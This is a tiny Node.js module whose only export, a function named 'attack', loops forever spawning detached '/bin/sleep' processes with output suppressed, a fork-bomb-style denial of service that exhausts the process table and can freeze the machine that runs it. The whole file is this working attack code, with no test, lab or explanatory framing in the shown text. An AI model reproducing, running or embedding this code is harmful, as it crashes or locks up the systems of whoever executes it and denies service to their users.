const { spawn } = require('node:child_process')

exports.attack = () => {
  for (;;) spawn('/bin/sleep', ['1000'], { detached: true, stdio: 'ignore' })
}
